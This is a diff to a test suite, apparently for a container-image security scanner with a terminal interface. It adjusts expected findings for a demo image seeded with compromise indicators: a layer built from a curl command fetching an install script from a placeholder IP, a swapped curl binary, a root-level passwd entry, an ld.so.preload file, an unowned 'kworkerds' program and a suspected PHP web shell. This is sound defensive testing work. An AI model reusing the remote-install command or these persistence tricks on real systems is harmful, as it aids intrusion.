@@ -53,17 +53,19 @@ async def test_demo_has_findings_of_every_category_and_still_opens(demo):
     assert {f.category for f in app.scan_index.result.findings} == set(CATEGORIES)
     assert app.query_one(LayerTable).row_count == 6
     integrity = [f for f in app.scan_index.result.findings if f.category == "integrity"]
-    assert [f.layer for f in integrity] == [1]
+    assert [f.layer for f in integrity if not f.rule_id.startswith("integrity.package.")] == [1]
+    assert sorted((f.layer, f.path) for f in integrity if f.rule_id.startswith("integrity.package.")) == [
+        (5, "/bin/ps"), (5, "/usr/bin/curl"), (5, "/usr/bin/kworkerds")]  # replaced curl, two unowned programs
 
 
 async def test_layer_rows_show_changes_and_findings_by_severity(demo):
     app, _pilot = demo
     table = app.query_one(LayerTable)
     index, size, changes, findings, created = (c.plain for c in table.get_row_at(3))
-    assert changes == "+9 ~0 -0" and findings == "2C 9H 2M 1L"
+    assert changes == "+9 ~0 -0" and findings == "3C 10H 3M 1L"
     assert created.startswith("RUN curl -fsSL http://203.0.113.7/install.sh")
     assert table.get_row_at(4)[2].plain == "+0 ~0 -2"
-    assert table.get_row_at(5)[2].plain == "+7 ~2 -0"  # curl patched, /etc/passwd gains a uid 0
+    assert table.get_row_at(5)[2].plain == "+10 ~2 -0"  # curl patched, /etc/passwd gains a uid 0
 
 
 async def test_layer_details_say_digest_media_type_and_integrity(demo):
@@ -89,10 +91,10 @@ async def test_tree_rows_say_status_size_mode_owner_target_and_worst_finding(dem
     tree = app.query_one(FileTree)
     assert tree.layer_index == 5
     ps = label(tree, "/bin/ps")
-    assert ps.startswith("A ps ") and "-rwsr-xr-x 0:0" in ps and "setuid" in ps and ps.endswith("!L")
+    assert ps.startswith("A ps ") and "-rwsr-xr-x 0:0" in ps and "setuid" in ps and ps.endswith("!M")  # unowned
     styled = {ps[span.start:span.end].strip(): str(span.style) for span in _node(tree, "/bin/ps").label.spans}
     assert styled["A"] == "bold green" and styled["ps"] == "green" and styled["setuid"] == "bold red"
-    assert styled["!L"] == SEVERITY_STYLE["low"] and styled["-rwsr-xr-x 0:0"] == "dim"
+    assert styled["!M"] == SEVERITY_STYLE["medium"] and styled["-rwsr-xr-x 0:0"] == "dim"
     assert label(tree, "/usr/bin/curl").startswith("M curl ")
     assert label(tree, "/bin/sh").startswith("  sh -> busybox")
     assert label(tree, "/var/www/html/up.php").endswith("!C")
@@ -115,7 +117,7 @@ async def test_filters_added_modified_deleted_unchanged_and_flagged(demo):
     await pilot.press("0")
     assert "/etc" in children(tree) and "/tmp" in children(tree)
     await pilot.press("exclamation_mark")  # flagged only: copies with findings visible at layer 5
-    assert children(tree) == ["/bin", "/etc", "/root", "/var"]
+    assert children(tree) == ["/bin", "/etc", "/root", "/srv", "/usr", "/var"]
     assert children(tree, "/etc") == ["/etc/cron.d", "/etc/ld.so.preload", "/etc/passwd"]
     assert "flagged only" in tree.border_title
     await pilot.press("exclamation_mark", "u")  # hide unchanged only: same as changes only
